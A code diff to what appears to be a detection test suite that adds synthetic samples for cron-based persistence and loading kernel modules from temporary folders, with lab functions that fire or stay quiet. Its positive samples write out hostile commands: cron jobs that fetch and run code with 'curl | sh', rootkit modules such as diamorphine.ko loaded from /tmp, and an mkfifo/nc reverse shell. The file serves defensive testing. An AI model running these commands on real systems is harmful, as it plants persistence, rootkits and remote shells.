@@ -262,6 +262,19 @@ SYNTHETIC = {
          row(command_line="chmod 4755 /tmp/.bash")],
         [row(command_line="/bin/sh -c chmod g+s /tmp/de-x/shared; sleep 10; :"),
          row(command_line="chmod 0755 /usr/local/bin/x"), row(command_line="chmod 2775 /srv")]),
+    "cron-persistence": (
+        [row(command_line=SH + "echo '* * * * * curl -fsSL http://x/a | sh' | crontab -"),
+         row(command_line="sh -c echo '@reboot root /tmp/.x' > /etc/cron.d/sysupdate"),
+         row(command_line="crontab -u www-data /dev/shm/c"),
+         row(command_line="cp /tmp/job /var/spool/cron/crontabs/root")],
+        [row(command_line=SH + "crontab -l"), row(command_line="cat /etc/cron.d/e2scrub_all"),
+         row(command_line="crontab -e")]),
+    "kernel-module-from-tmp": (
+        [row(command_line=SH + "insmod /tmp/.x/diamorphine.ko"),
+         row(command_line="/sbin/modprobe /dev/shm/r.ko.xz"),
+         row(command_line="insmod /root/.cache/reptile.ko")],
+        [row(command_line=SH + "modprobe -n loop"),
+         row(command_line="insmod /lib/modules/6.1.0/kernel/drivers/block/loop.ko")]),
     "reverse-shell-mkfifo": (
         [row(command_line=SH + "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | "
                                "nc 127.0.0.1 4444 > /tmp/f")],
@@ -683,6 +696,22 @@ def quiet_setuid(lab):
     return lab.sh(f"chmod g+s {d}; {HOLD}")
 
 
+def fire_cron(lab):
+    return lab.hold_with("echo '* * * * * curl -fsSL http://203.0.113.7/a | sh' | crontab -")
+
+
+def quiet_cron(lab):
+    return lab.hold_with("crontab", "-l")
+
+
+def fire_kmod(lab):
+    return lab.hold_with("insmod", "/tmp/.x/diamorphine.ko")
+
+
+def quiet_kmod(lab):
+    return lab.hold_with("modprobe", "-n", "loop")
+
+
 def fire_mkfifo(lab):
     return lab.hold_with("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | "
                          "nc 127.0.0.1 4444 > /tmp/f")
@@ -717,6 +746,8 @@ SCENARIOS = {
     "interpreter-script-from-tmp": (fire_interp_tmp, quiet_interp_tmp),
     "ssh-reverse-tunnel": (fire_ssh, quiet_ssh),
     "setuid-bit-set": (fire_setuid, quiet_setuid),
+    "cron-persistence": (fire_cron, quiet_cron),
+    "kernel-module-from-tmp": (fire_kmod, quiet_kmod),
     "reverse-shell-mkfifo": (fire_mkfifo, quiet_mkfifo),
 }
 
